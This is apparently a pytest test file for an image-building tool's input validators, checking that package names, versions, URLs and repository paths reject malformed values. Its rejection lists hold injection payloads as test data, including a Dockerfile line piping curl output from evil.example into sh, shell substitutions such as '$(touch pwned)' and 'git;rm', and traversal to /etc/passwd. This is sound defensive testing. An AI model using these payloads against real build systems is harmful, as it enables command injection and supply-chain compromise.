"""validate.py: one rule per kind of value; each accepts the real thing and nothing else."""

from __future__ import annotations

from collections.abc import Callable
from pathlib import Path

import pytest

from imagebot import validate
from imagebot.validate import InvalidValue

LONG = "a" * 20_000
# Characters that look like ASCII letters, or that case-insensitive Unicode matching folds
# onto them: long s, dotless i, Kelvin sign, Cyrillic a, fullwidth A.
CONFUSABLES = ["\u017fix", "p\u0131p", "\u212aeras", "p\u0430ndas", "\uff21bc"]
# Never part of any value: newline (also trailing), CR, NUL, tab, DEL, zero-width space,
# right-to-left override, line separator.
BREAKERS = ["\n", "\r", "\x00", "\t", "\x7f", "\u200b", "\u202e", "\u2028"]

RULES: dict[str, tuple[Callable[[object], object], list[object], list[object]]] = {
    # rule: (function, valid values, invalid values)
    "python_name": (
        validate.python_name,
        ["numpy", "scikit-learn", "zope.interface", "a", "A1", "backports_zoneinfo"],
        ["", "-numpy", "numpy-", "num py", "numpy==1", "numpy[x]", "../x", "n\u00fcmpy"],
    ),
    "python_extra": (
        validate.python_extra,
        ["excel", "all", "sql-other", "a.b_c"],
        ["", "excel]", "excel]\n--extra-index-url http://x/simple\n#", "a,b", "-x"],
    ),
    "python_module": (
        validate.python_module,
        ["sklearn", "yaml", "google.cloud.storage", "_private"],
        ["", "1abc", "a-b", "a..b", "a.", "os; import pty", "__import__('os')"],
    ),
    "python_version": (
        validate.python_version,
        ["2.3.4", "1.0", "1!2.0", "1.0rc1", "1.0.post1", "1.0.dev3", "1.0+local.7", "2025.10"],
        ["", ">=2.0", "==2.0", "2.*", "latest", " 2.0", "2.0 ", "2.0,<3", "1.0 ; python"],
    ),
    "apt_name": (
        validate.apt_name,
        ["git", "libpq5", "libstdc++6", "r-base-core", "g++"],
        ["", "g", "Git", "-git", "git pkg", "git'", "git;rm"],
    ),
    "apt_version": (
        validate.apt_version,
        ["15.14*", "12.2.0-14+deb12u1", "1:2.39.5-0+deb12u2", "2.0~rc1"],
        ["", "fifteen", "*", "1.0 2", "1.0'", "a1.0", "1.0**"],
    ),
    "r_name": (
        validate.r_name,
        ["data.table", "IRkernel", "ggplot2", "R6"],
        ["", "9lives", "a", "data.", ".hidden", "data_table", "a-b"],
    ),
    "r_version": (
        validate.r_version,
        ["1.14.8", "1.1-0", "0.2"],
        ["", "1", "latest", "1.2.x", "1..2", "v1.0"],
    ),
    "one_line": (
        validate.one_line,
        ["Everyday data science", "", "@anna", "tabeller og \u00e6\u00f8\u00e5", "a 'b' \"c\""],
        ["x)\nRUN curl -s http://evil.example/x | sh\n# (", ["a", 1], 1, None],
    ),
    "url": (
        validate.url,
        ["https://pypi.org/simple", "http://127.0.0.1:5556/simple", "https://x.org/a#frag?b=1"],
        [
            "",
            "https://x/$(touch pwned)",
            "https://x/`id`",
            "https://x/'",
            'https://x/"',
            "https://x.org/a b",
            "https://user:secret@x.org/",
            "https://@x.org/",
            "ftp://x.org/",
            "ftp:/nope",
            "//x.org/",
            "https:///path",
            "https://x:port/",
            "https://x.org/\\",
        ],
    ),
    "image_reference": (
        validate.image_reference,
        [
            "python",
            "python:3.11-slim-bookworm",
            "docker.io/library/python:3.11-slim-bookworm",
            "127.0.0.1:5555/jupyter/jupyterlab",
            "Registry.Example.org:443/team/app__x/y-z:V1",
            "imagebot-local/bookworm-python:3.11",
            "ghcr.io/org/app@sha256:" + "ab" * 32,
            "ghcr.io/org/app:1.0@sha256:" + "ab" * 32,
        ],
        [
            "",
            "Python",
            "ghcr.io/Org/app",
            "a:b:c",
            'x"y',
            "x y",
            "app:",
            "app@sha256:abc",
            "app:" + "t" * 129,
            "/app",
            "app/",
            "app//x",
            "a" * 256,
        ],
    ),
}


def _cases(valid: bool) -> list[tuple[str, object]]:
    return [
        (rule, value)
        for rule, (_, good, bad) in RULES.items()
        for value in (good if valid else bad)
    ]


@pytest.mark.parametrize(("rule", "value"), _cases(True))
def test_valid_values_come_back_unchanged(rule: str, value: object) -> None:
    assert RULES[rule][0](value) == value


@pytest.mark.parametrize(("rule", "value"), _cases(False))
def test_invalid_values_are_refused_with_a_hint(rule: str, value: object) -> None:
    with pytest.raises(InvalidValue) as caught:
        RULES[rule][0](value)
    assert caught.value.message and caught.value.hint
    assert isinstance(caught.value, ValueError)
    assert "\n" not in caught.value.message  # the message is one line: the value is repr'd


NAME_RULES = [
    name for name in RULES if name not in ("one_line", "url", "image_reference", "python_module")
]


@pytest.mark.parametrize("rule", [*RULES])
@pytest.mark.parametrize("breaker", BREAKERS)
def test_no_rule_lets_a_control_or_format_character_through(rule: str, breaker: str) -> None:
    function, valid, _ = RULES[rule]
    sample = str(next(v for v in valid if v))
    for value in (sample + breaker, breaker + sample, sample[:1] + breaker + sample[1:]):
        with pytest.raises(InvalidValue):
            function(value)


@pytest.mark.parametrize("rule", [*NAME_RULES, "python_module"])
@pytest.mark.parametrize("value", CONFUSABLES)
def test_confusables_are_not_ascii_names(rule: str, value: str) -> None:
    with pytest.raises(InvalidValue):
        RULES[rule][0](value)


@pytest.mark.parametrize("rule", [*RULES])
def test_values_of_twenty_thousand_characters_are_refused_briefly(rule: str) -> None:
    function, valid, _ = RULES[rule]
    value = str(next(v for v in valid if v)) + LONG if rule != "url" else "https://x.org/" + LONG
    with pytest.raises(InvalidValue) as caught:
        function(value)
    assert len(caught.value.message) < 200


@pytest.mark.parametrize("value", [1, 2.0, True, None, ["numpy"], {"a": 1}, b"numpy"])
@pytest.mark.parametrize("rule", [*RULES])
def test_non_strings_are_refused(rule: str, value: object) -> None:
    with pytest.raises(InvalidValue, match="must be a string"):
        RULES[rule][0](value)


def test_url_schemes_can_be_narrowed() -> None:
    assert validate.url("https://x.org/", schemes=("https",)) == "https://x.org/"
    with pytest.raises(InvalidValue, match="must start with https://"):
        validate.url("http://x.org/", schemes=("https",))


@pytest.mark.parametrize(
    "value",
    [
        "https://ci-bot:s3cret-pw@x.org/simple",
        "https://ci-bot:s3cret@pw@x.org/simple",
        "https://ci-bot:s3cret-pw@x.org/a b",
        "https://ci-bot:s3cret-pw@x.org/$(id)",
        "ftp://ci-bot:s3cret-pw@x.org/",
        "https://ci-bot:s3cret-pw@x.org:port/",
        "https://ci-bot:s3cret-pw@x.org/?token=s3cret-pw",
        "https://ci-bot:s3cret-pw@x.org/#s3cret-pw",
    ],
)
def test_url_messages_never_echo_a_credential(value: str) -> None:
    with pytest.raises(InvalidValue) as refused:
        validate.url(value)
    assert "s3cret" not in refused.value.message + refused.value.hint
    assert "://***@x.org" in refused.value.message


def test_one_line_length_is_bounded_and_adjustable() -> None:
    assert validate.one_line("x" * validate.MAX_TEXT) == "x" * validate.MAX_TEXT
    with pytest.raises(InvalidValue, match="at most"):
        validate.one_line("x" * (validate.MAX_TEXT + 1))
    assert validate.one_line("x" * 1000, limit=1000)


@pytest.fixture
def repo(tmp_path: Path) -> Path:
    (tmp_path / "requirements").mkdir()
    (tmp_path / "requirements" / "base.toml").write_text("[python]\n")
    (tmp_path / "imagebot.toml").write_text("")
    (tmp_path / "jupyter").mkdir()
    (tmp_path / "outside").mkdir()
    return tmp_path


RESERVED = ("imagebot.toml", "requirements")


@pytest.mark.parametrize("value", ["jupyter/Dockerfile", "Dockerfile", "a/b/../c", "."])
def test_repo_path_accepts_paths_inside_the_repository(repo: Path, value: str) -> None:
    assert validate.repo_path(value, repo, RESERVED) == Path(value)


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("", "empty"),
        ("  ", "empty"),
        ("/etc/passwd", "not relative"),
        ("C:/x", "not relative"),
        ("jupyter\\Dockerfile", "not relative"),
        ("../Dockerfile", "outside the repository"),
        ("jupyter/../../x", "outside the repository"),
        ("imagebot.toml", "imagebot's own input"),
        ("./imagebot.toml", "imagebot's own input"),
        ("requirements/base.toml", "imagebot's own input"),
        ("requirements/base.lock", "imagebot's own input"),
        ("requirements", "imagebot's own input"),
        ("jupyter/Dockerfile\n", "not printable"),
        ("jupyter/\x00", "not printable"),
        ("x" * 20_000, "at most"),
    ],
)
def test_repo_path_refuses(repo: Path, value: str, expected: str) -> None:
    with pytest.raises(InvalidValue, match=expected):
        validate.repo_path(value, repo, RESERVED)


def test_repo_path_follows_symlinks_before_deciding(repo: Path) -> None:
    (repo / "jupyter" / "escape").symlink_to(repo / "outside")
    (repo / "link-to-config").symlink_to(repo / "imagebot.toml")
    with pytest.raises(InvalidValue, match="outside the repository"):
        validate.repo_path("escape/Dockerfile", repo / "jupyter")
    with pytest.raises(InvalidValue, match="own input"):
        validate.repo_path("link-to-config", repo, RESERVED)


def test_repo_path_refuses_non_strings(repo: Path) -> None:
    with pytest.raises(InvalidValue, match="must be a string"):
        validate.repo_path(["Dockerfile"], repo)
